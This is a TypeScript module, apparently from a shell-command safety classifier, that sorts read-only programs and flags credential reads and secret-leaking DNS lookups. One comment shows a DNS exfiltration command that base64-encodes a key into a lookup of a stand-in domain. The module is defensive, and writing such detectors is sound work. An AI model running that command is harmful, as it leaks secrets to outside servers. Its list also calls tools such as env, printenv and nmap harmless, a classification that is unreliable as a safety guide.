/** Programs that only read: harmless but for what they read. */
import type { Word } from '../../../types.ts';
import type { Call, Tool } from '../../types.ts';
import { HARMLESS, LOCAL, reading, together, toolOf } from '../doing.ts';
import { fills } from '../files/write.ts';
import {
  credentialsReadIn,
  isSecret,
  sentDoing,
  substitutionsIn,
  tellsOfSecret,
} from './credentials.ts';

/** Every operand is a file. */
const printers = toolOf(
  'printer',
  (
    'cat tac nl less more most head tail bat batcat base64 base32 xxd hexdump od strings cut paste ' +
    'column fold expand unexpand rev comm diff cmp colordiff delta view zcat zless bzcat xzcat ' +
    'hd gcat ghead gtail pygmentize highlight iconv uuencode basenc fmt pr vimdiff sdiff glow'
  ).split(' '),
  [],
  (call, context) => {
    const endless = call.operands.some(({ text }) => /^\/dev\/(?:zero|u?random|full)$/.test(text));
    const bounded = call.has('-n', '-c', '--bytes', '--lines');
    return together([
      credentialsReadIn([...call.operands, ...fed(call)], context),
      endless && !bounded ? fills(call) : {},
    ]);
  },
);

/** `< file`. */
function fed({ invocation: { stdin } }: Call): readonly Word[] {
  return stdin.kind === 'file' ? [stdin.path] : [];
}

/** The first operand is what is looked for, or a program, unless an option gives it. */
function searcher(id: string, programs: string, valued: string, given: readonly string[]): Tool {
  return toolOf(id, programs.split(' '), valued.split(' '), (call, context) =>
    credentialsReadIn([...call.operands.slice(call.has(...given) ? 0 : 1), ...fed(call)], context),
  );
}

const CONTEXT =
  '-e -f -A -B -C -m --regexp --file --max-count --context --after-context --before-context';
const GIVEN = ['-e', '-f', '--regexp', '--file'];

const searchers: readonly Tool[] = [
  searcher(
    'grep',
    'grep egrep fgrep zgrep ggrep ugrep ack ack-grep',
    `${CONTEXT} -d -D --include --exclude --exclude-dir --color`,
    GIVEN,
  ),
  searcher(
    'rg',
    'rg ag',
    `${CONTEXT} -g -t -T -r -j --glob --iglob --type --type-not --sort`,
    GIVEN,
  ),
  searcher('awk', 'awk gawk mawk nawk', '-F -v -f --file --assign', ['-f', '--file']),
  searcher(
    'jq',
    'jq yq gron xq dasel fx miller mlr',
    '--arg --argjson --slurpfile --rawfile --indent -f --from-file -o -p',
    ['-f', '--from-file'],
  ),
];

/** A name that is looked up travels to whoever answers for it: `dig $(base64 key).example.com`. */
const askers = toolOf(
  'name-lookup',
  'dig host nslookup ping ping6 drill kdig traceroute tracepath mtr'.split(' '),
  ['-t', '-c', '-q', '-p', '-W', '-i', '-s'],
  ({ invocation, operands }, context) => {
    const named = operands.find(({ text }) => !text.startsWith('@'));
    const secret =
      substitutionsIn(invocation.text).some(tellsOfSecret) ||
      operands.some((word) => word.unknowns.some(tellsOfSecret) && isSecret(word, context));
    return secret ? reading(sentDoing(named?.text ?? 'a server of names')) : {};
  },
);

/** Neither content nor state: names, sizes, sums, the machine, the session. */
const lookers: Tool = {
  id: 'looker',
  programs: (
    'ls ll la dir vdir exa eza lsd tree pwd echo printf print true false test [ [[ : which whereis whatis type ' +
    'apropos man info tldr help stat file du df dust duf ncdu wc cksum md5sum sha1sum ' +
    'sha256sum sha512sum shasum md5 b2sum sum realpath readlink dirname basename pathchk date cal uptime ' +
    'uname hostname hostnamectl arch nproc lscpu lsmem lsusb lspci lsblk blkid findmnt lsof ps pgrep pidof ' +
    'pstree top htop btop atop glances free vmstat iostat mpstat sar id whoami who w users groups last lastb ' +
    'lastlog getent finger logname tty env printenv locale localectl seq factor expr bc dc sleep wait ' +
    'watch time times clear reset tput stty tr tsort numfmt dmidecode lsmod modinfo sw_vers ' +
    'ss netstat whois arp resolvectl ethtool nmap ' +
    'ifstat iftop nethogs tcpdump tshark locate mlocate plocate fd fdfind fzf sk zoxide tokei ' +
    'cloc scc loc wslpath cygpath uuidgen getconf ldd nm objdump readelf size addr2line ' +
    'strace ltrace perf gdb lldb valgrind jobs bg fg disown alias unalias hash dirs pushd popd cd ' +
    'local return exit shift getopts let read mapfile readarray declare typeset readonly trap umask ulimit ' +
    'bind complete compgen shopt enable caller builtin break continue logger figlet cowsay lolcat open ' +
    'xdg-open pbcopy pbpaste xclip xsel code subl nano emacs micro tmux screen zellij ' +
    'split csplit gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 pigz compress sync ' +
    'timedatectl vipe tig lazygit ncal dos2unix unix2dos mktemp tempfile getfacl getfattr lsattr ' +
    'namei sha224sum sha384sum xmllint xsltproc envsubst msgfmt pandoc convert magick ffmpeg ffprobe'
  ).split(' '),
  provider: LOCAL,
  valued: [],
  acts: [HARMLESS],
  otherwise: 'harmless',
};

export const readingTools: readonly Tool[] = [printers, ...searchers, askers, lookers];
